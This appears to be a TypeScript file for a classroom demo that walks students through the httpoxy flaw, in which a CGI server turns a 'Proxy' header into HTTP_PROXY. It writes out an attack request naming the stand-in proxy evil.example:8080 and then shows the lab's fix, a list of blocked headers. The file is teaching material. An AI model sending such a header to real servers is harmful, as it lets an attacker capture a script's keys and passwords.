import type { Demo, Step } from '../demo.ts';

const VARIABLE = ['environment.ts', 'variables[`HTTP_'] as const;
const LIST = ['environment.ts', "'proxy',"] as const;

const server = {
  lab: 'lab10-dynamic-server',
  file: 'dynamic_server.ts',
  args: ['{port}', '{root}'],
} as const;
// Like many programs, the script takes HTTP_PROXY for the proxy that it shall use.
const files = {
  'web/cgi-bin/weather.mjs': `const proxy = process.env.HTTP_PROXY;
console.log('Content-Type: text/plain\\n');
console.log(proxy ? \`asked the weather service through \${proxy}\` : 'asked the weather service');
`,
};
const REQUEST =
  'GET /cgi-bin/weather.mjs HTTP/1.1\r\nHost: localhost\r\nProxy: http://evil.example:8080\r\nConnection: close\r\n\r\n';

const asks = (line: Step['server']): Step[] => [
  { action: { do: 'connect' }, say: 'The attacker connects.', ...(line && { server: line }) },
  {
    action: { do: 'send', text: REQUEST },
    say: 'A request for the script, with a header that nobody has asked for: Proxy.',
    ask: 'What will the variable for this header be called?',
    ...(line && { server: line }),
  },
];

export const httpoxy: Demo = {
  name: 'httpoxy',
  title: 'A header becomes a setting',
  minutes: 6,
  about: 'CGI makes variables of headers: one sends a script to an evil proxy.',
  acts: [
    {
      title: 'A server that passes every header on',
      server: { ...server, mutant: 'httpoxy', broken: 'every header' },
      client: { kind: 'script', title: 'an attacker' },
      files,
      http: true,
      steps: [
        {
          say: 'weather.mjs stands for a script that asks a weather service. As many programs do, it takes the proxy that HTTP_PROXY names.',
          ask: 'The server gives each header to the script as a variable, HTTP_ and its name. What can go wrong?',
          server: VARIABLE,
          waits: 'the server waits for a client',
        },
        ...asks(VARIABLE),
        {
          action: { do: 'pass', from: 'client', kind: 'data' },
          say: 'Proxy becomes HTTP_PROXY: a header of a stranger has become a setting of the script.',
          server: VARIABLE,
          waits: 'the attacker waits for the script',
        },
        {
          action: { do: 'pass', from: 'server', kind: 'data' },
          say: 'The script takes evil.example for its proxy: all that it says goes through there, keys and passwords, too.',
          ask: 'Whose mistake is it: that of CGI, of the server, of the script?',
          server: VARIABLE,
          shows: 'through http://evil.example:8080',
        },
      ],
    },
    {
      title: 'The solution of lab10',
      server,
      client: { kind: 'script', title: 'an attacker' },
      files,
      http: true,
      steps: [
        {
          say: 'The solution has a list of headers that no script gets.',
          server: LIST,
          waits: 'the server waits for a client',
        },
        ...asks(LIST),
        {
          action: { do: 'pass', from: 'client', kind: 'data' },
          say: 'The header is left out, and the script is started without it.',
          server: LIST,
          waits: 'the attacker waits for the script',
        },
        {
          action: { do: 'pass', from: 'server', kind: 'data' },
          say: 'No proxy: the script has asked directly. The hole was found in 2001, and in 2016 again, in many servers and languages.',
          server: LIST,
          shows: 'asked the weather service\n',
        },
      ],
    },
  ],
};
